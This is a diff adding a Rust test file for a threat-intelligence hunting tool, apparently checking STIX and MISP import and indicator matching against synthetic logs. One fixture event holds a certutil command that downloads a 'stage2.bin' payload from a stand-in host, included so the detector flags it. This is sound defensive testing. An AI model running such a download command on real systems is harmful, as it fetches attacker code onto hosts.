@@ -1,0 +1,181 @@
+//! Threat intelligence through the command line: `intel check` over the shared threat-intel
+//! set (STIX examples, MISP events, ATT&CK, IOC lists), and `hunt --intel` raising alerts that
+//! name the partner whose indicator matched.
+
+mod common;
+
+use std::process::{Command, Output};
+
+use serde_json::Value;
+
+fn wardwatch(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_wardwatch"))
+        .args(args)
+        .output()
+        .expect("run wardwatch")
+}
+
+#[test]
+fn the_shared_threat_intel_set_imports_and_what_is_no_intelligence_is_refused_by_name() {
+    let Some(data) = common::shared(
+        "the_shared_threat_intel_set_imports_and_what_is_no_intelligence_is_refused_by_name",
+    ) else {
+        return;
+    };
+    let dir = data.join("threat-intel");
+    let out = wardwatch(&["intel", "check", dir.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let line = |needle: &str| {
+        text.lines()
+            .find(|l| l.contains(needle))
+            .unwrap_or_else(|| panic!("no line for {needle}:\n{text}"))
+            .to_string()
+    };
+    // IOC lists: every line of the ThreatFox list is an address; OpenPhish gives URLs.
+    assert!(line("threatfox-ioc-ips.txt").contains("19863 indicator(s) (19863 ip)"));
+    assert!(line("openphish-feed.sample.txt").contains("2 indicator(s) (2 url)"));
+    // STIX 2.1 examples: the C2 address, the APT1 report's networks, domains and hashes; the
+    // patterns one value cannot answer (AND, MATCHES) are skipped, not guessed.
+    assert!(line("indicator-for-c2-ip-address.json").contains("1 indicator(s) (1 ip)"));
+    assert!(line("threat-reports__apt1.json").contains("(4 cidr, 3 domain, 3 md5); 2 skipped"));
+    assert!(line("interop-objectmarking-test.json").contains("0 indicator(s)"));
+    // ATT&CK (24,000 per-object STIX 2.0 bundles in one .tar.gz, and the ICS bundle): read
+    // whole, no indicators in them.
+    assert!(line("mitre-cti-enterprise-attack-objects.tar.gz").contains("0 indicator(s)"));
+    assert!(line("ics-attack.json").contains("0 indicator(s)"));
+    // MISP events, with attributes not meant for detection skipped.
+    assert!(line("existing_event.json:").contains("68 indicator(s)"));
+    // What is no intelligence (a galaxy, object templates, a lone sighting) is refused, named.
+    let refused: Vec<&str> = text.lines().filter(|l| l.contains(": error:")).collect();
+    assert_eq!(refused.len(), 4, "{refused:#?}");
+    for name in [
+        "galaxy.json",
+        "overwrite_file__definition.json",
+        "sighting.json",
+        "test_object_template__definition.json",
+    ] {
+        assert!(
+            refused
+                .iter()
+                .any(|l| l.contains(name) && l.contains("not a MISP event")),
+            "{name}: {refused:#?}"
+        );
+    }
+    assert_eq!(out.status.code(), Some(1), "refused files make check fail");
+}
+
+#[test]
+fn hunt_with_intel_names_the_partner_the_indicator_and_where_it_was_seen() {
+    let dir = tempfile::tempdir().unwrap();
+    let bundle = dir.path().join("partner-a.json");
+    std::fs::write(
+        &bundle,
+        serde_json::json!({"type": "bundle", "id": "bundle--6c1c8a2e-0000-4000-8000-000000000001",
+            "objects": [
+                {"type": "indicator", "spec_version": "2.1",
+                 "id": "indicator--6c1c8a2e-0000-4000-8000-000000000002",
+                 "created": "2026-11-01T00:00:00.000Z", "modified": "2026-11-01T00:00:00.000Z",
+                 "name": "Invoice phishing wave",
+                 "pattern": "[domain-name:value = 'billing-portal.example']",
+                 "pattern_type": "stix", "valid_from": "2026-11-01T00:00:00Z"},
+                {"type": "indicator", "spec_version": "2.1",
+                 "id": "indicator--6c1c8a2e-0000-4000-8000-000000000003",
+                 "created": "2026-11-01T00:00:00.000Z", "modified": "2026-11-01T00:00:00.000Z",
+                 "pattern": "[ipv4-addr:value = '203.0.113.66']", "pattern_type": "stix",
+                 "valid_from": "2026-11-01T00:00:00Z", "valid_until": "2026-12-01T00:00:00Z"}]})
+        .to_string(),
+    )
+    .unwrap();
+    let list = dir.path().join("feed.txt");
+    std::fs::write(
+        &list,
+        "# weekly feed\nhxxp://dl.bad-cdn[.]example/stage2.bin\n",
+    )
+    .unwrap();
+    let events = dir.path().join("events.jsonl");
+    std::fs::write(
+        &events,
+        [
+            // A subdomain of the shared domain, asked for by a workstation.
+            r#"{"@timestamp":"2026-11-20T09:00:00Z","host":{"name":"ws-041"},"dns":{"question":{"name":"login.billing-portal.example"}},"source":{"ip":"10.20.1.41"}}"#,
+            // The shared address, while the indicator is valid; then after it expired.
+            r#"{"@timestamp":"2026-11-20T09:00:05Z","host":{"name":"ws-041"},"source":{"ip":"10.20.1.41"},"destination":{"ip":"203.0.113.66","port":443}}"#,
+            r#"{"@timestamp":"2026-12-02T09:00:05Z","host":{"name":"ws-041"},"source":{"ip":"10.20.1.41"},"destination":{"ip":"203.0.113.66","port":443}}"#,
+            // A neighbour address and a look-alike domain: nothing.
+            r#"{"@timestamp":"2026-11-20T09:00:06Z","host":{"name":"ws-042"},"source":{"ip":"10.20.1.42"},"destination":{"ip":"203.0.113.67","port":443}}"#,
+            r#"{"@timestamp":"2026-11-20T09:00:07Z","host":{"name":"ws-042"},"dns":{"question":{"name":"billing-portal.example.org"}}}"#,
+            // The defanged URL of the feed, fetched by a command line.
+            r#"{"@timestamp":"2026-11-20T09:01:00Z","host":{"name":"ws-043"},"process":{"command_line":"certutil -urlcache -f http://dl.bad-cdn.example/stage2.bin s.exe"}}"#,
+        ]
+        .join("\n"),
+    )
+    .unwrap();
+    let out = wardwatch(&[
+        "hunt",
+        events.to_str().unwrap(),
+        "--intel",
+        bundle.to_str().unwrap(),
+        "--intel",
+        list.to_str().unwrap(),
+        "--format",
+        "jsonl",
+        "-q",
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let rows: Vec<Value> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|r: &Value| r["rule_id"].as_str().unwrap_or("").starts_with("intel:"))
+        .collect();
+    let got: Vec<(&str, &str, &str)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["rule_id"].as_str().unwrap(),
+                r["level"].as_str().unwrap(),
+                r["entities"][0]["value"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        vec![
+            (
+                "intel:partner-a:domain",
+                "high",
+                "login.billing-portal.example"
+            ),
+            ("intel:partner-a:ip", "medium", "203.0.113.66"),
+            (
+                "intel:feed:url",
+                "high",
+                "http://dl.bad-cdn.example/stage2.bin"
+            ),
+        ]
+    );
+    let details = rows[0]["details"].as_str().unwrap();
+    for fact in [
+        "intel.source: partner-a",
+        "intel.name: Invoice phishing wave",
+        "intel.field: dns.question.name",
+        "indicator--6c1c8a2e-0000-4000-8000-000000000002",
+    ] {
+        assert!(details.contains(fact), "{fact}: {details}");
+    }
+    // A file that is no intelligence stops the hunt with its name, before any log is read.
+    let bad = dir.path().join("notes.txt");
+    std::fs::write(&bad, "call the vendor on Monday\n").unwrap();
+    let out = wardwatch(&[
+        "hunt",
+        events.to_str().unwrap(),
+        "--intel",
+        bad.to_str().unwrap(),
+    ]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("notes.txt") && err.contains("line 1"), "{err}");
+}
